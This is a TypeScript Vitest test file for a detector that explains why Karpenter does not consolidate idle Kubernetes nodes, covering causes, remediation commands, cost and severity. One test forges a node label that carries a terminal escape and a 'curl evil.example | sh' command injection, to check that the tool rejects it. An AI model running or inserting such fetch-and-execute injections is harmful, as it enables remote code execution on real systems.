import { describe, expect, it } from 'vitest';
import { consolidationBlocked } from '../../../../src/detectors/consolidation-blocked/detector.ts';
import { blockedCauseOf, unconsolidatableCauseOf } from '../../../../src/detectors/karpenter/disruption-messages.ts';
import type { PriceBook } from '../../../../src/domain/cost.ts';
import type { Finding } from '../../../../src/domain/finding.ts';
import { DEFAULT_DETECTION, parseUsd, type DetectionSettings } from '../../../../src/domain/settings.ts';
import type { ClusterSnapshot } from '../../../../src/domain/snapshot.ts';
import { SnapshotIndex } from '../../../../src/domain/snapshot-index.ts';
import { nodePool } from '../../../factories/karpenter.ts';
import { T0, karpenterDeployment, minutesAfter, pdb, withAnnotations } from '../../../factories/kube.ts';
import { IDLE, daemonPod, idleClaim, idleNode, idlePool, karpenterEvent, nodeNameOf, webPodOn } from './fixtures.ts';

/** Thursday 2026-01-01 00:00 UTC: the idle node has been Consolidatable for 8h. */
const NOW = T0;

/** No prices: what a scan has before the bundled table (costOf gives nothing). */
const NO_PRICES: PriceBook = { hourly: () => undefined };
/** m5.xlarge on-demand at $0.192/h: $4.61 a day. */
const M5: PriceBook = {
  hourly: (i) => (i.instanceType === 'm5.xlarge' ? { usd: 0.192, source: 'on-demand, test table' } : undefined),
};

function detect(
  snapshot: ClusterSnapshot,
  options: { now?: string; prices?: PriceBook; settings?: Partial<DetectionSettings> } = {},
) {
  return consolidationBlocked.detect({
    snapshot,
    index: new SnapshotIndex(snapshot),
    prices: options.prices ?? NO_PRICES,
    settings: { ...DEFAULT_DETECTION, ...options.settings },
    now: new Date(options.now ?? NOW),
  });
}

const stepsOf = (f: Finding | undefined) => (f?.remediation?.steps ?? []).join('\n');

describe('CONSOLIDATION_BLOCKED: which nodes count', () => {
  it('reports an idle node Consolidatable for 8h: one info finding for its NodePool, counted', () => {
    const findings = detect(idlePool());

    expect(findings).toHaveLength(1);
    expect(findings[0]?.severity).toBe('info');
    expect(findings[0]?.resource).toEqual({ kind: 'NodePool', name: 'default' });
    expect(findings[0]?.counts).toEqual({ objects: 1, nodePool: 'default' });
    expect(findings[0]?.since).toBe(minutesAfter(T0, -480));
    expect(findings[0]?.title).toContain(
      '1 node of NodePool default Karpenter could consolidate but does not (the oldest for 8h)',
    );
  });

  it('a node Consolidatable for 10 minutes is not a finding', () => {
    expect(detect(idlePool({ nodeClaims: [idleClaim(IDLE, { since: minutesAfter(T0, -10) })] }))).toEqual([]);
  });

  it('consolidateAfter 0s never resets the condition: a pod event 2 minutes ago (lastPodEventTime) restarts the wait', () => {
    const claim = idleClaim(IDLE);
    claim.status = { ...claim.status, lastPodEventTime: minutesAfter(T0, -2) };

    expect(detect(idlePool({ nodeClaims: [claim] }))).toEqual([]);
  });

  it('honours --consolidation-blocked: 8h is not enough when it says 12h', () => {
    expect(detect(idlePool(), { settings: { consolidationBlockedMs: 12 * 3_600_000 } })).toEqual([]);
  });

  it('a busy node Consolidatable for 8h is not a finding: the condition only says consolidateAfter has passed', () => {
    const busy = webPodOn(IDLE, 'db-0');
    busy.spec = {
      ...busy.spec,
      containers: [{ name: 'db', image: 'postgres', resources: { requests: { cpu: '3', memory: '12Gi' } } }],
    };

    expect(detect(idlePool({ pods: [daemonPod(IDLE), busy] }))).toEqual([]);
  });

  it('a busy Consolidatable node Karpenter itself reported unconsolidatable counts, said to be busy: its cost is not waste', () => {
    const busy = webPodOn(IDLE, 'db-0');
    busy.spec = {
      ...busy.spec,
      containers: [{ name: 'db', image: 'postgres', resources: { requests: { cpu: '1', memory: '13Gi' } } }],
    };
    const said = (message: string, reason = 'Unconsolidatable') =>
      idlePool({ pods: [daemonPod(IDLE), busy], events: [karpenterEvent('Node', nodeNameOf(IDLE), reason, message, 47)] });

    const [f] = detect(said("Can't replace with a cheaper node"), { prices: M5, settings: { wastePerDay: 1 } });
    expect(f?.cause?.code).toBe('NO_CHEAPER_REPLACEMENT');
    expect(f?.cause?.detail).toContain(`${nodeNameOf(IDLE)} is busy`);
    expect(f?.cause?.detail).toContain('not provable waste');
    expect(f?.cost?.basis).toContain('1 of these nodes is busy: what it costs, not provable waste');
    expect(f?.severity).toBe('info');
    // A transient text is not Karpenter's verdict on the node: a busy node stays out.
    expect(detect(said('Node is nominated for a pending pod', 'DisruptionBlocked'))).toEqual([]);
  });

  it('leaves out nodes being deleted, tainted karpenter.sh/disrupted or drifted (other findings own them)', () => {
    const deleting = idleClaim(IDLE);
    deleting.metadata = { ...deleting.metadata, deletionTimestamp: T0 };
    const tainted = idleNode(IDLE);
    tainted.spec = { ...tainted.spec, taints: [{ key: 'karpenter.sh/disrupted', effect: 'NoSchedule' }] };
    const drifted = idleClaim(IDLE);
    drifted.status?.conditions?.push({ type: 'Drifted', status: 'True', reason: 'AMIDrift', lastTransitionTime: T0 });

    expect(detect(idlePool({ nodeClaims: [deleting] }))).toEqual([]);
    expect(detect(idlePool({ nodes: [tainted] }))).toEqual([]);
    expect(detect(idlePool({ nodeClaims: [drifted] }))).toEqual([]);
  });

  it("leaves out a node whose Ready is not True (NODE_NOT_READY's) and one past its NodePool's expireAfter (DISRUPTION_BLOCKED's)", () => {
    const notReady = idleNode(IDLE);
    notReady.status = {
      ...notReady.status,
      conditions: [{ type: 'Ready', status: 'Unknown', reason: 'NodeStatusUnknown', lastTransitionTime: minutesAfter(T0, -60) }],
    };
    const ready = idleNode(IDLE);
    ready.status = {
      ...ready.status,
      conditions: [{ type: 'Ready', status: 'True', lastTransitionTime: minutesAfter(T0, -1440) }],
    };
    const expiring = (expireAfter: string) => {
      const np = nodePool({ name: 'default', disruption: { consolidateAfter: '5m' } });
      if (np.spec?.template?.spec) np.spec.template.spec.expireAfter = expireAfter;
      return np;
    };

    expect(detect(idlePool({ nodes: [notReady] }))).toEqual([]);
    expect(detect(idlePool({ nodes: [ready] }))).toHaveLength(1);
    expect(detect(idlePool({ nodePools: [expiring('12h')] }))).toEqual([]);
    expect(detect(idlePool({ nodePools: [expiring('720h')] }))).toHaveLength(1);
  });

  it("v1beta1 NodeClaims: the node's age never stands in for idle time (Karpenter's event where consolidation is on, the Empty condition for WhenEmpty)", () => {
    const old = (disruption: Parameters<typeof nodePool>[0]['disruption']) => ({
      ...nodePool({ name: 'default', disruption }),
      apiVersion: 'karpenter.sh/v1beta1',
    });
    const claim = (empty?: string) => {
      const c = { ...idleClaim(IDLE, { since: null }), apiVersion: 'karpenter.sh/v1beta1' };
      if (empty) c.status?.conditions?.push({ type: 'Empty', status: 'True', reason: 'Empty', lastTransitionTime: empty });
      return c;
    };
    const underutilized = old({ consolidationPolicy: 'WhenUnderutilized' });
    const whenEmpty = old({ consolidationPolicy: 'WhenEmpty', consolidateAfter: '30s' });
    const said = [karpenterEvent('Node', nodeNameOf(IDLE), 'Unconsolidatable', "Can't replace with a cheaper node", 5)];
    const emptyNode = [daemonPod(IDLE)];

    expect(detect(idlePool({ nodePools: [underutilized], nodeClaims: [claim()] }))).toEqual([]);
    expect(detect(idlePool({ nodePools: [underutilized], nodeClaims: [claim()], events: said }))).toHaveLength(1);
    expect(detect(idlePool({ nodePools: [whenEmpty], nodeClaims: [claim()], pods: emptyNode }))).toEqual([]);
    expect(detect(idlePool({ nodePools: [whenEmpty], nodeClaims: [claim(minutesAfter(T0, -2))], pods: emptyNode }))).toEqual([]);
    const [f] = detect(idlePool({ nodePools: [whenEmpty], nodeClaims: [claim(minutesAfter(T0, -420))], pods: emptyNode }));
    expect(f?.since).toBe(minutesAfter(T0, -420));
  });

  it('a node whose pods were not read (none at all on it) counts only when Karpenter sent an event about it', () => {
    const unread = idlePool({ pods: [] });
    const said = idlePool({
      pods: [],
      events: [karpenterEvent('NodeClaim', IDLE, 'Unconsolidatable', "Can't replace with a cheaper node", 47)],
    });

    expect(detect(unread)).toEqual([]);
    expect(detect(said).map((f) => f.cause?.code)).toEqual(['NO_CHEAPER_REPLACEMENT']);
  });
});

describe('CONSOLIDATION_BLOCKED: the causes and their fixes', () => {
  it('consolidateAfter: Never removes the condition: an idle node is judged from its pods, and the patch is printed', () => {
    const snapshot = idlePool({
      nodePools: [nodePool({ name: 'default', disruption: { consolidateAfter: 'Never' } })],
      nodeClaims: [idleClaim(IDLE, { since: null })],
    });

    const [f] = detect(snapshot);

    expect(f?.cause?.code).toBe('CONSOLIDATION_DISABLED');
    expect(f?.cause?.detail).toContain('consolidateAfter: Never');
    expect(stepsOf(f)).toContain(
      `kubectl patch nodepool default --type=merge -p '{"spec":{"disruption":{"consolidateAfter":"30m"}}}'`,
    );
  });

  it('without the condition and with consolidation on (a v1 node inside consolidateAfter), nothing is judged', () => {
    expect(detect(idlePool({ nodeClaims: [idleClaim(IDLE, { since: null })] }))).toEqual([]);
  });

  it('WhenEmpty with pods running: the policy change, in the NodePool API version it was captured in', () => {
    const v1 = idlePool({
      nodePools: [nodePool({ name: 'default', disruption: { consolidationPolicy: 'WhenEmpty', consolidateAfter: '3m' } })],
    });
    const oldPool = nodePool({ name: 'default', disruption: { consolidationPolicy: 'WhenEmpty', consolidateAfter: '3m' } });
    const v1beta1 = idlePool({
      nodePools: [{ ...oldPool, apiVersion: 'karpenter.sh/v1beta1' }],
      nodeClaims: [{ ...idleClaim(IDLE, { since: null }), apiVersion: 'karpenter.sh/v1beta1' }],
    });

    const [a] = detect(v1);
    const [b] = detect(v1beta1);

    expect(a?.cause?.code).toBe('CONSOLIDATION_DISABLED');
    expect(stepsOf(a)).toContain(`-p '{"spec":{"disruption":{"consolidationPolicy":"WhenEmptyOrUnderutilized"}}}'`);
    expect(b?.cause?.code).toBe('CONSOLIDATION_DISABLED');
    expect(stepsOf(b)).toContain(
      `-p '{"spec":{"disruption":{"consolidationPolicy":"WhenUnderutilized","consolidateAfter":null}}}'`,
    );
  });

  it('a budget of 0 for Underutilized in its window names the budget and when it opens; outside the window it is not blamed', () => {
    // 0 for Underutilized from 22:00 UTC for 10h: active at 00:00, closed at 09:00.
    const budgets = [{ nodes: '0', reasons: ['Underutilized'], schedule: '0 22 * * *', duration: '10h' }];
    const snapshot = idlePool({ nodePools: [nodePool({ name: 'default', disruption: { consolidateAfter: '5m', budgets } })] });

    const [inWindow] = detect(snapshot);
    const [outside] = detect(snapshot, { now: minutesAfter(T0, 9 * 60) });

    expect(inWindow?.cause?.code).toBe('BUDGET_BLOCKS');
    expect(inWindow?.cause?.detail).toContain('budgets[0] nodes: "0" reasons [Underutilized] schedule "0 22 * * *" for 10h');
    expect(inWindow?.cause?.detail).toContain('next opens at 2026-01-01T08:00:00Z');
    expect(stepsOf(inWindow)).toContain('"reasons":["Underutilized"]');
    expect(outside?.cause?.code).not.toBe('BUDGET_BLOCKS');
    expect(stepsOf(outside)).not.toContain('kubectl patch nodepool');
  });

  it('a stale blocking-budget event on a captured NodePool whose budgets allow it now is quoted, not taken: the next cause is', () => {
    const snapshot = idlePool({
      events: [
        karpenterEvent(
          'NodePool',
          'default',
          'DisruptionBlocked',
          'No allowed disruptions for disruption reason Underutilized due to blocking budget',
        ),
        karpenterEvent('Node', nodeNameOf(IDLE), 'Unconsolidatable', "Can't replace with a cheaper node", 12),
      ],
    });
    const uncaptured = { ...snapshot, nodePools: [], captured: new Set([...snapshot.captured].filter((k) => k !== 'nodepools')) };

    const [f] = detect(snapshot);
    const [g] = detect(uncaptured);

    expect(f?.cause?.code).toBe('NO_CHEAPER_REPLACEMENT');
    expect(f?.evidence.join('\n')).toContain('due to blocking budget');
    expect(stepsOf(f)).not.toContain('budgets');
    expect(g?.cause?.code).toBe('BUDGET_BLOCKS');
  });

  it("a v1beta1 NodePool's budget of 0: the patch has no reasons field (v1beta1 has none) and says it lets every reason through", () => {
    const pool = nodePool({
      name: 'default',
      disruption: { consolidationPolicy: 'WhenEmpty', budgets: [{ nodes: '0' }] },
    });
    const claim = { ...idleClaim(IDLE, { since: null }), apiVersion: 'karpenter.sh/v1beta1' };
    claim.status?.conditions?.push({
      type: 'Empty',
      status: 'True',
      reason: 'Empty',
      lastTransitionTime: minutesAfter(T0, -480),
    });
    const snapshot = idlePool({
      nodePools: [{ ...pool, apiVersion: 'karpenter.sh/v1beta1' }],
      nodeClaims: [claim],
      pods: [daemonPod(IDLE)],
    });

    const [f] = detect(snapshot);

    expect(f?.cause?.code).toBe('BUDGET_BLOCKS');
    expect(stepsOf(f)).toContain(`-p '{"spec":{"disruption":{"budgets":[{"nodes":"1"}]}}}'`);
    expect(stepsOf(f)).not.toContain('"reasons"');
    expect(stepsOf(f)).toContain('every disruption reason');
  });

  it('a PDB allowing 0 disruptions holds the node, and wins over "Can\'t replace with a cheaper node" (kubernetes-sigs/karpenter#2802)', () => {
    const snapshot = idlePool({
      pdbs: [pdb({ name: 'web', namespace: 'shop', matchLabels: { app: 'web' }, disruptionsAllowed: 0 })],
      events: [
        karpenterEvent('Node', nodeNameOf(IDLE), 'Unconsolidatable', "Can't replace with a cheaper node", 86),
        karpenterEvent('Node', nodeNameOf(IDLE), 'DisruptionBlocked', 'Pdb "shop/web" prevents pod evictions'),
      ],
    });

    const [f] = detect(snapshot);

    expect(f?.cause?.code).toBe('PDB_BLOCKS_EVICTION');
    expect(f?.cause?.detail).toContain('shop/web (holding shop/web-7d4b9c8f6d-x2x9k)');
    expect(f?.evidence).toContain(`Unconsolidatable ×86 on Node ${nodeNameOf(IDLE)}: "Can't replace with a cheaper node"`);
  });

  it('a stale PDB event contradicted by the captured PDBs (all allow one) is quoted, not taken, and no PDB fix is printed', () => {
    const snapshot = idlePool({
      pdbs: [pdb({ name: 'web', namespace: 'shop', matchLabels: { app: 'web' }, disruptionsAllowed: 1 })],
      events: [
        karpenterEvent('NodeClaim', IDLE, 'DisruptionBlocked', 'Pdb prevents pod evictions (PodDisruptionBudget=[shop/web])'),
      ],
    });

    const [f] = detect(snapshot);

    expect(f?.cause?.code).toBe('UNKNOWN');
    expect(f?.cause?.detail).toContain('Pdb prevents pod evictions (PodDisruptionBudget=[shop/web])');
    expect(stepsOf(f)).not.toContain('pdb');
  });

  it('PDBs not captured: the v1.7 event names the PDB from its suffix', () => {
    const snapshot = idlePool({
      pdbs: undefined,
      events: [
        karpenterEvent('NodeClaim', IDLE, 'DisruptionBlocked', 'Pdb prevents pod evictions (PodDisruptionBudget=[shop/web])'),
      ],
    });

    const [f] = detect(snapshot);

    expect(f?.cause?.code).toBe('PDB_BLOCKS_EVICTION');
    expect(f?.cause?.detail).toContain('PodDisruptionBudget shop/web allows no eviction');
  });

  it('PDBs not captured: the pre-v0.32 Unconsolidatable "pdb ns/name prevents pod evictions" names the PDB too', () => {
    const snapshot = idlePool({
      events: [
        karpenterEvent('Node', nodeNameOf(IDLE), 'Unconsolidatable', 'pdb istio-system/istiod prevents pod evictions', 30),
      ],
    });
    const noPdbs = { ...snapshot, captured: new Set([...snapshot.captured].filter((k) => k !== 'pdbs')) };

    const [f] = detect(noPdbs);

    expect(f?.cause?.code).toBe('PDB_BLOCKS_EVICTION');
    expect(f?.cause?.detail).toContain('istio-system/istiod');
  });

  it('a do-not-disrupt pod: the exact kubectl that removes its annotation; a stale pod event with the pods captured clean is not taken', () => {
    const annotated = idlePool({
      pods: [daemonPod(IDLE), webPodOn(IDLE, 'etl-5f6d7c8b9-q8w7e', { 'karpenter.sh/do-not-disrupt': 'true' })],
    });
    const stale = idlePool({
      events: [
        karpenterEvent(
          'Node',
          nodeNameOf(IDLE),
          'DisruptionBlocked',
          'Pod has "karpenter.sh/do-not-disrupt" annotation (Pod=shop/etl-5f6d7c8b9-q8w7e)',
        ),
      ],
    });

    const [a] = detect(annotated);
    const [b] = detect(stale);

    expect(a?.cause?.code).toBe('DO_NOT_DISRUPT_POD');
    expect(stepsOf(a)).toContain('kubectl annotate pod -n shop etl-5f6d7c8b9-q8w7e karpenter.sh/do-not-disrupt-');
    expect(b?.cause?.code).toBe('UNKNOWN');
    expect(stepsOf(b)).not.toContain('kubectl annotate');
  });

  it('a Node annotated do-not-disrupt: the annotation removed from that node', () => {
    const [f] = detect(idlePool({ nodes: [withAnnotations(idleNode(IDLE), { 'karpenter.sh/do-not-disrupt': 'true' })] }));

    expect(f?.cause?.code).toBe('DO_NOT_DISRUPT_NODE');
    expect(stepsOf(f)).toContain(`kubectl annotate node ${nodeNameOf(IDLE)} karpenter.sh/do-not-disrupt-`);
  });

  it("a Node annotated do-not-disrupt whose pod a PDB also holds: the node's annotation first (Karpenter checks it first), the PDB steps after", () => {
    const [f] = detect(
      idlePool({
        nodes: [withAnnotations(idleNode(IDLE), { 'karpenter.sh/do-not-disrupt': 'true' })],
        pdbs: [pdb({ name: 'web', namespace: 'shop', matchLabels: { app: 'web' }, disruptionsAllowed: 0 })],
      }),
    );
    const steps = stepsOf(f);

    expect(f?.cause?.code).toBe('DO_NOT_DISRUPT_NODE');
    expect(f?.cause?.detail).toContain('shop/web');
    expect(steps).toContain(`kubectl annotate node ${nodeNameOf(IDLE)} karpenter.sh/do-not-disrupt-`);
    expect(steps.indexOf('karpenter.sh/do-not-disrupt-')).toBeLessThan(steps.indexOf('pdb'));
  });

  it("spot-to-spot off: Karpenter's words quoted and the feature gate enabled through Helm", () => {
    const [f] = detect(
      idlePool({
        nodes: [idleNode(IDLE, { capacity: 'spot' })],
        events: [
          karpenterEvent(
            'NodeClaim',
            IDLE,
            'Unconsolidatable',
            "SpotToSpotConsolidation is disabled, can't replace a spot node with a spot node",
            12,
          ),
        ],
      }),
    );

    expect(f?.cause?.code).toBe('SPOT_TO_SPOT_DISABLED');
    expect(f?.cause?.detail).toContain(
      `"SpotToSpotConsolidation is disabled, can't replace a spot node with a spot node" (Unconsolidatable ×12`,
    );
    expect(stepsOf(f)).toContain('--reuse-values --set settings.featureGates.spotToSpotConsolidation=true');
  });

  it('pods of the node not read: the PDB Karpenter names is the cause, and nothing is claimed of pods not seen', () => {
    const message = 'Pdb prevents pod evictions (PodDisruptionBudget=[shop/web])';
    const unread = (pdbs: ReturnType<typeof pdb>[] = []) =>
      detect(
        idlePool({
          // Pods were captured, none of this node's (a live scan reads at most 20 nodes' pods per NodePool).
          pods: [],
          pdbs,
          events: [karpenterEvent('NodeClaim', IDLE, 'DisruptionBlocked', message, 9)],
        }),
      )[0];

    const f = unread();
    expect(f?.cause?.code).toBe('PDB_BLOCKS_EVICTION');
    expect(f?.cause?.detail).toContain('PodDisruptionBudget shop/web allows no eviction');
    expect(f?.cause?.detail).toContain(`The pods of ${nodeNameOf(IDLE)} were not read`);
    expect(f?.cause?.detail).not.toMatch(/no pod/i);
    expect(stepsOf(f)).toContain('shop');

    // The named PDB is captured and allows a disruption now: the event is stale, and still no "no pod" claim.
    const stale = unread([pdb({ name: 'web', namespace: 'shop', matchLabels: { app: 'web' }, disruptionsAllowed: 1 })]);
    expect(stale?.cause?.code).not.toBe('PDB_BLOCKS_EVICTION');
    expect(stale?.cause?.detail).toContain(`the pods of ${nodeNameOf(IDLE)} were not read`);
    expect(stale?.cause?.detail).not.toMatch(/no pod/i);
  });

  it("v0.32–v0.33's spot-to-spot text (no gate then): an upgrade to v0.34 with the gate, not the gate on the installed chart", () => {
    const spot = (message: string, deployments: ReturnType<typeof karpenterDeployment>[] = []) =>
      detect(
        idlePool({
          nodes: [idleNode(IDLE, { capacity: 'spot' })],
          events: [karpenterEvent('Node', nodeNameOf(IDLE), 'Unconsolidatable', message, 4)],
          deployments,
        }),
      )[0];
    const labelled = (version: string) => {
      const d = karpenterDeployment();
      d.metadata = { ...d.metadata, labels: { ...d.metadata?.labels, 'helm.sh/chart': `karpenter-${version}` } };
      return d;
    };

    const byText = spot("Can't replace a spot node with a spot node");
    expect(byText?.cause?.code).toBe('SPOT_TO_SPOT_DISABLED');
    expect(byText?.cause?.detail).toContain('the SpotToSpotConsolidation feature gate came in v0.34');
    expect(stepsOf(byText)).toContain('--version v0.34.0 --reset-then-reuse-values');
    expect(stepsOf(byText)).not.toContain('--reuse-values --set');

    const byVersion = spot("Can't replace a spot node with a spot node", [labelled('v0.33.1')]);
    expect(stepsOf(byVersion)).toContain('Karpenter v0.33.1 has no spot-to-spot consolidation');
    expect(stepsOf(byVersion)).not.toContain('--reuse-values --set');

    const gated = spot("SpotToSpotConsolidation is disabled, can't replace a spot node with a spot node", [labelled('0.37.2')]);
    expect(stepsOf(gated)).toContain('--version 0.37.2 --reuse-values --set settings.featureGates.spotToSpotConsolidation=true');
    expect(stepsOf(gated)).not.toContain('v0.34.0');
  });

  it('"Filtering by price: minValues requirement is not met": minValues named, the requirements\' minValues step first, not requests', () => {
    const [f] = detect(
      idlePool({
        events: [
          karpenterEvent(
            'NodeClaim',
            IDLE,
            'Unconsolidatable',
            'Filtering by price: minValues requirement is not met for label(s) (label(s)=[karpenter.k8s.aws/instance-family])',
            9,
          ),
        ],
      }),
    );
    const own = f?.remediation?.steps.find((s) => s.includes('spec.template.spec.requirements')) ?? '';

    expect(f?.cause?.code).toBe('NO_CHEAPER_REPLACEMENT');
    expect(f?.cause?.detail).toContain('minValues');
    expect(own).toContain('minValues');
    expect(f?.remediation?.steps.indexOf(own)).toBeLessThan(
      f?.remediation?.steps.findIndex((s) => s.includes('Allocated resources')) ?? -1,
    );
  });

  it('pods that would not schedule: the pods the text names are the ones inspected', () => {
    const [f] = detect(
      idlePool({
        events: [
          karpenterEvent(
            'NodeClaim',
            IDLE,
            'Unconsolidatable',
            'Not all pods would schedule, shop/web-7d4b9c8f6d-x2x9k => did not tolerate taint ',
          ),
        ],
      }),
    );

    expect(f?.cause?.code).toBe('PODS_WOULD_NOT_SCHEDULE');
    expect(stepsOf(f)).toContain('kubectl get pod -n shop web-7d4b9c8f6d-x2x9k');
  });

  it("pods that would not schedule: Karpenter's per-pod constraint named, and its check leads", () => {
    const [f] = detect(
      idlePool({
        events: [
          karpenterEvent(
            'Node',
            nodeNameOf(IDLE),
            'Unconsolidatable',
            'Not all pods would schedule, shop/cart-0 => incompatible requirements, key shop.example/tier, tier In [gold] not in tier In [silver] shop/web-7d4b9c8f6d-x2x9k => unsatisfiable topology constraint for pod anti-affinity, key=kubernetes.io/hostname (counts = map[], podDomains = kubernetes.io/hostname Exists, nodeDomains = kubernetes.io/hostname Exists ',
          ),
        ],
      }),
    );

    expect(f?.cause?.code).toBe('PODS_WOULD_NOT_SCHEDULE');
    expect(f?.cause?.detail).toContain('pod shop/web-7d4b9c8f6d-x2x9k without a place (pod anti-affinity)');
    expect(f?.cause?.detail).toContain('pod shop/cart-0 without a place (incompatible requirements');
    const steps = f?.remediation?.steps ?? [];
    const cart = steps.findIndex((s) => s.includes("kubectl get pod -n shop cart-0 -o jsonpath='{.spec.nodeSelector}"));
    const web = steps.findIndex((s) =>
      s.includes("kubectl get pod -n shop web-7d4b9c8f6d-x2x9k -o jsonpath='{.spec.affinity.podAntiAffinity}'"),
    );
    expect(cart).toBeGreaterThan(-1);
    expect(web).toBeGreaterThan(-1);
    // Neither pod's error names a hostPort or a taint: those checks are not offered for them.
    expect(stepsOf(f)).not.toContain('{.spec.tolerations}');
    expect(stepsOf(f)).not.toContain('.ports}');
  });

  it('UNKNOWN leads with the checks that tell the causes apart, names Spot as a candidate, and prints no change', () => {
    const [f] = detect(idlePool({ nodes: [idleNode(IDLE, { capacity: 'spot' })] }));

    expect(f?.cause?.code).toBe('UNKNOWN');
    expect(f?.cause?.detail).toContain('1 of them are Spot');
    expect(f?.cause?.detail).toContain('No Karpenter event explains it');
    expect(stepsOf(f)).toContain('kubectl get events -A');
    expect(stepsOf(f)).not.toMatch(/kubectl (patch|annotate)|helm upgrade/);
  });
});

describe('CONSOLIDATION_BLOCKED: cost and severity', () => {
  it('prices the nodes by their labels; info under --waste-per-day, warning at or above it', () => {
    const [cheap] = detect(idlePool(), { prices: M5 });
    const [costly] = detect(idlePool(), { prices: M5, settings: { wastePerDay: 4.6 } });

    expect(cheap?.cost?.perDayUsd).toBe(4.61);
    expect(cheap?.cost?.basis).toMatch(/^1 × m5\.xlarge on-demand at \$0\.1920\/h \(on-demand, test table\); × 24 h; /);
    expect(cheap?.severity).toBe('info');
    expect(cheap?.title).toContain('$4.61 a day');
    expect(costly?.severity).toBe('warning');
    // The renderer prints the cost line; the evidence does not say it a third time.
    expect(cheap?.evidence.filter((line) => line.includes('4.61'))).toEqual([]);
  });

  it('a forged instance-type label never reaches the cost basis (labels are shape-checked like every priced instance)', () => {
    const forged = idleNode(IDLE);
    forged.metadata = {
      ...forged.metadata,
      labels: { ...forged.metadata?.labels, 'node.kubernetes.io/instance-type': 'm5.xlarge\u001b[2J; curl evil.example | sh' },
    };
    const anything: PriceBook = { hourly: () => ({ usd: 0.192, source: 'test table' }) };

    const [f] = detect(idlePool({ nodes: [forged] }), { prices: anything });

    // The type is not known, so nothing is priced (a price book would price any name it is given).
    expect(f?.cost).toBeUndefined();
    expect(JSON.stringify(f)).not.toContain('curl evil');
  });

  it("a node still running pods: the basis says its price is an upper bound (its pods need room elsewhere); an empty one's does not", () => {
    const [busy] = detect(idlePool(), { prices: M5 });
    const [empty] = detect(idlePool({ pods: [daemonPod(IDLE)] }), { prices: M5 });

    expect(busy?.cost?.basis).toContain('an upper bound: 1 of these nodes runs pods');
    expect(empty?.cost).toEqual({
      perDayUsd: 4.61,
      basis: '1 × m5.xlarge on-demand at $0.1920/h (on-demand, test table); × 24 h',
    });
  });

  it('unpriced nodes carry no cost and stay info, whatever the threshold', () => {
    const [f] = detect(idlePool(), { settings: { wastePerDay: 0 } });

    expect(f?.cost).toBeUndefined();
    expect(f?.severity).toBe('info');
  });
});

describe("Karpenter's texts, every wording", () => {
  it.each([
    [
      'Cannot disrupt Node: PDB "kube-system/ebs-csi-controller" prevents pod evictions',
      'PDB_BLOCKS_EVICTION',
      'kube-system/ebs-csi-controller',
    ],
    [
      'Cannot disrupt Node: pdb "example/ingress-controller-pdb" prevents pod evictions',
      'PDB_BLOCKS_EVICTION',
      'example/ingress-controller-pdb',
    ],
    ['Pdb prevents pod evictions (PodDisruptionBudget=default/nginx)', 'PDB_BLOCKS_EVICTION', 'default/nginx'],
    ['Pdb prevents pod evictions (PodDisruptionBudget=[default/nginx])', 'PDB_BLOCKS_EVICTION', 'default/nginx'],
    [
      'Cannot disrupt Node: Pod "default/cdp-default-2ekrbha7" has "karpenter.sh/do-not-disrupt" annotation',
      'DO_NOT_DISRUPT_POD',
      'default/cdp-default-2ekrbha7',
    ],
    ['Pod has "karpenter.sh/do-not-disrupt" annotation (Pod=shop/etl-0)', 'DO_NOT_DISRUPT_POD', 'shop/etl-0'],
    [
      'Cannot disrupt Node: Disruption is blocked with the "karpenter.sh/do-not-disrupt" annotation',
      'DO_NOT_DISRUPT_NODE',
      undefined,
    ],
  ])('DisruptionBlocked %j', (message, cause, named) => {
    expect(blockedCauseOf(message)).toEqual({ cause, named });
  });

  it.each([
    ['NodePool "default" has consolidation disabled', 'CONSOLIDATION_DISABLED'],
    ['NodePool "batch" has non-empty consolidation disabled', 'CONSOLIDATION_DISABLED'],
    ['NodePool "batch" has consolidation policy WhenEmpty, but node is not empty', 'CONSOLIDATION_DISABLED'],
    ["Can't replace a spot node with a spot node", 'SPOT_TO_SPOT_DISABLED'],
    [
      'SpotToSpotConsolidation requires 15 cheaper instance type options than the current candidate to consolidate, got 6',
      'TOO_FEW_CHEAPER_TYPES',
    ],
    [
      'Filtering by price: minValues requirement is not met for label(s) (label(s)=[karpenter.k8s.aws/instance-family])',
      'NO_CHEAPER_REPLACEMENT',
    ],
    ["can't remove without creating 9 nodes", 'PODS_WOULD_NOT_SCHEDULE'],
    ["Can't remove without creating 2 candidates", 'PODS_WOULD_NOT_SCHEDULE'],
    ['Node is nominated for a pending pod', undefined],
  ])('Unconsolidatable %j', (message, cause) => {
    expect(unconsolidatableCauseOf(message)).toBe(cause);
  });

  it.each([
    ['50', 50],
    ['12.5', 12.5],
    [' 0.25 ', 0.25],
    ['1e3', undefined],
    ['-1', undefined],
    ['$5', undefined],
    ['1.234', undefined],
  ])('a USD amount %j', (text, usd) => {
    expect(parseUsd(text)).toBe(usd);
  });
});
